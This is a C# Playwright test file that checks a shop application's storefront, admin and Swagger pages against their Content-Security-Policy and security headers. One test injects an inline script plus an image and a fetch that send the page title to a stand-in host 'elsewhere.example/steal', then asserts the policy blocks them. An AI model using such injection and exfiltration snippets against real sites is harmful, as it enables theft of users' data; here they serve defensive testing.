using Microsoft.Playwright;
using Shouldly;
using Xunit;
using static Microsoft.Playwright.Assertions;

namespace Push.Hub.Browser;

/// <summary>The pages under their Content-Security-Policy: nothing they do breaks it, and what does is blocked.</summary>
public sealed class ContentPolicyTests(BrowserFixture fixture)
{
    private const string Watch = "document.addEventListener('securitypolicyviolation', e => (window.violations ??= []).push(`${e.effectiveDirective} ${e.blockedURI}`));";

    [Fact]
    public async Task NeitherPage_BreaksItsPolicy_WhileItIsUsed()
    {
        await using IBrowserContext device = await fixture.DeviceAsync();
        await device.AddInitScriptAsync(Watch);
        string saleId;
        using (ShopApi api = new(fixture.Url))
        {
            saleId = await api.OpenSaleAsync("Under a policy", ("POLICY", "Lock", 5m, 3));
        }

        ShopPage shop = await ShopPage.OpenAsync(device, saleId);
        await shop.GrabAsync("POLICY");
        await shop.ShouldShowAsync("POLICY", "pending-payment");
        (await ViolationsAsync(shop.Page)).ShouldBeEmpty();

        IPage cockpit = await device.NewPageAsync();
        await cockpit.GotoAsync($"/admin/?sale={saleId}");
        await Expect(cockpit.Locator("body")).ToContainTextAsync("Under a policy");
        (await ViolationsAsync(cockpit)).ShouldBeEmpty();

        IPage document = await device.NewPageAsync();
        await document.GotoAsync("/swagger/index.html");
        await Expect(document.Locator(".opblock").First).ToBeVisibleAsync();
        (await ViolationsAsync(document)).ShouldBeEmpty();
    }

    [Theory]
    [InlineData("/")]
    [InlineData("/admin/")]
    public async Task AScriptThatGotIn_IsNotRun_AndNothingIsSentElsewhere(string path)
    {
        await using IBrowserContext device = await fixture.DeviceAsync();
        await device.AddInitScriptAsync(Watch);
        IPage page = await device.NewPageAsync();
        IResponse answer = (await page.GotoAsync(path))!;

        await page.EvaluateAsync(
            """
            () => {
              const script = document.createElement('script');
              script.textContent = 'window.injected = true';
              document.head.append(script);
              const image = document.createElement('img');
              image.src = 'https://elsewhere.example/steal?' + document.title;
              document.body.append(image);
              fetch('https://elsewhere.example/steal').catch(() => {});
            }
            """);

        using CancellationTokenSource deadline = new(TimeSpan.FromMilliseconds(BrowserFixture.PatienceMs));
        while ((await ViolationsAsync(page)).Length < 3)
        {
            await Task.Delay(50, deadline.Token);
        }

        (await ViolationsAsync(page)).ShouldBe(["script-src-elem inline", "img-src https://elsewhere.example/steal", "connect-src https://elsewhere.example/steal"], ignoreOrder: true);
        (await page.EvaluateAsync<bool>("() => window.injected === true")).ShouldBeFalse();
        answer.Headers["x-content-type-options"].ShouldBe("nosniff");
        answer.Headers["referrer-policy"].ShouldBe("no-referrer");
        answer.Headers["cross-origin-opener-policy"].ShouldBe("same-origin");
        answer.Headers["cross-origin-resource-policy"].ShouldBe("same-origin");
        answer.Headers["permissions-policy"].ShouldContain("geolocation=()");
        answer.Headers["content-security-policy"].ShouldNotContain("unsafe");
    }

    private static async Task<string[]> ViolationsAsync(IPage page) =>
        [.. (await page.EvaluateAsync<string[]>("() => window.violations ?? []")).Select(violation => violation.Split('?')[0])];
}
